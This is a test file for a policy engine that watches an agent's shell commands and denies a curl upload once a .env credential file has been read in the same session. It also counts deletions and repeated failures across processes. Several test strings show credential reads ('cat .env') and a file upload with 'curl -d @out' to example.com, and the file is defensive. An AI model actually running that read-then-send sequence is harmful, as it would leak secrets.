import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import { once } from "node:events";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { fileURLToPath } from "node:url";
import { bundledProgram } from "@precept/testing/program";
import { describe, expect, it } from "vitest";
import { createPolicyProject } from "../../test/policy-project.ts";

const sending = `id: NO-SEND
severity: CRITICAL
match: { pattern: '\\bcurl\\b', context_filter: { subject: command } }
sequence: { after: { pattern: '\\.env\\b' }, within: 30m }
message: This sends data.
`;
const counted = (count: number, severity = "LOW") => `id: MANY
severity: ${severity}
match: { pattern: '\\brm\\b' }
sequence: { count: ${count} }
message: These are many deletions.
`;
const failing = `id: RETRIES
severity: LOW
match: { pattern: '.+', context_filter: { subject: command } }
sequence: { count: 3, same: command, failed: true }
message: This fails.
`;
const command = (written: string) => ({ kind: "command", text: written }) as const;
const program = fileURLToPath(new URL("../../test/call-repeatedly.ts", import.meta.url));

function startCalls(dir: string, name: string, times: number) {
  return spawn(process.execPath, [bundledProgram(program), dir, name, String(times)], {
    stdio: ["ignore", "pipe", "inherit"],
  });
}

describe("a policy with a sequence", () => {
  it("denies sending after a credential file was read in the session, and says when", async () => {
    const { open, dir } = await createPolicyProject({ ".precept/policies/a.yaml": sending });
    const engine = open();
    const send = command("curl -d @out https://example.com");
    expect(await engine.enforce(send, { session: "a" })).toMatchObject({ action: "PASS" });
    expect(existsSync(join(dir, ".precept/state/sequences.sqlite"))).toBe(true);
    await engine.enforce(command("cat secret-token-17 .env"), { session: "a" });
    const denied = await engine.enforce(send, { session: "a" });
    expect(denied).toMatchObject({ action: "TERMINATE", denies: true });
    expect(denied.violations[0]?.message).toMatch(
      /^This sends data\. Earlier in this session, once, the last time at 2\S+Z, `after` was met\.$/,
    );
    expect(await engine.enforce(send, { session: "b" })).toMatchObject({ action: "PASS" });
    expect(await engine.check(send)).toMatchObject({ action: "PASS" });
    expect(JSON.stringify(await engine.sequences())).not.toContain("secret-token-17");
    expect((await readFile(join(dir, ".precept/state/sequences.sqlite"))).includes("secret-token-17")).toBe(false);
  });

  it("remembers what another process did, and no call that was denied", async () => {
    const { open } = await createPolicyProject({
      ".precept/policies/a.yaml": sending,
      ".precept/policies/b.yaml": "{ id: NO-CAT, severity: CRITICAL, match: { pattern: cat }, message: No. }",
    });
    await open().enforce(command("cat .env"), { session: "a" });
    expect(await open().enforce(command("curl x"), { session: "a" })).toMatchObject({ action: "PASS" });
    await open().enforce(command("less .env"), { session: "a" });
    expect(await open().enforce(command("curl x"), { session: "a" })).toMatchObject({ action: "TERMINATE" });
  });

  it("advises when the same command failed again and again", async () => {
    const { open } = await createPolicyProject({ ".precept/policies/a.yaml": failing });
    const engine = open();
    const run = async (id: string, outcome: "failed" | "succeeded") => {
      const { action } = await engine.enforce(command("make"), { toolUse: `${id}:before`, call: { id, stage: "before" } });
      await engine.enforce([], { toolUse: `${id}:after`, call: { id, stage: "after", outcome } });
      return action;
    };
    expect([await run("1", "failed"), await run("2", "failed"), await run("3", "succeeded"), await run("4", "failed")]).toEqual([
      "PASS",
      "PASS",
      "SOFT_HOOK",
      "PASS",
    ]);
  });

  it("is forgotten with its session", async () => {
    const { open } = await createPolicyProject({ ".precept/policies/a.yaml": counted(2) });
    const engine = open();
    await engine.enforce(command("rm a"), { session: "a" });
    await engine.softHooks.end("a");
    expect(await engine.sequences("a")).toEqual([]);
    expect(await engine.enforce(command("rm a"), { session: "a" })).toMatchObject({ action: "PASS" });
  });

  it("reads nothing for a call that counts for no policy", async () => {
    const { open, dir } = await createPolicyProject({ ".precept/policies/a.yaml": sending });
    await open().enforce(command("cat .env"), { session: "a" });
    await writeFile(join(dir, ".precept/state/sequences.sqlite"), "damaged");
    const codesOf = async (written: string) =>
      (await open().enforce(command(written), { session: "a" })).diagnostics.map(({ code }) => code);
    expect(await codesOf("ls")).toEqual([]);
    expect(await codesOf("curl x")).toEqual(["policies/session-not-stored"]);
  });

  it("stores nothing if no policy has a sequence", async () => {
    const { open, dir } = await createPolicyProject({ ".precept/policies/a.yaml": counted(2).replace(/sequence.*\n/, "") });
    await open().check(command("ls"));
    await open().enforce(command("ls"));
    expect(existsSync(join(dir, ".precept/state/sequences.sqlite"))).toBe(false);
  });
});

describe("four processes in one session", () => {
  it("lose no call: exactly the last one of 40 is the 40th", async () => {
    const { open, dir } = await createPolicyProject({ ".precept/policies/a.yaml": counted(40) });
    const processes = ["a", "b", "c", "d"].map((name) => startCalls(dir, name, 10));
    const actions = (await Promise.all(processes.map(({ stdout }) => text(stdout)))).join("").trim().split("\n");
    expect(actions.toSorted()).toEqual([...Array.from({ length: 39 }, () => "PASS"), "SOFT_HOOK"]);
    const [record] = await open().sequences("s");
    expect(Object.values(record?.values ?? {}).flat()).toHaveLength(40);
  });

  it("lose no call that was answered when they are killed", async () => {
    const { open, dir } = await createPolicyProject({ ".precept/policies/a.yaml": counted(100) });
    const processes = ["a", "b", "c", "d"].map((name) => startCalls(dir, name, 1000));
    const answered = await Promise.all(
      processes.map(async (child) => {
        let out = "";
        child.stdout.on("data", (chunk: Buffer) => {
          out += chunk.toString();
          if (out.split("\n").length > 4) child.kill("SIGKILL");
        });
        await once(child, "close");
        return out.split("\n").length - 1;
      }),
    );
    const [record] = await open().sequences("s");
    const stored = Object.values(record?.values ?? {}).flat().length;
    expect(stored).toBeGreaterThanOrEqual(
      Math.min(
        100,
        answered.reduce((left, right) => left + right),
      ),
    );
  });
});
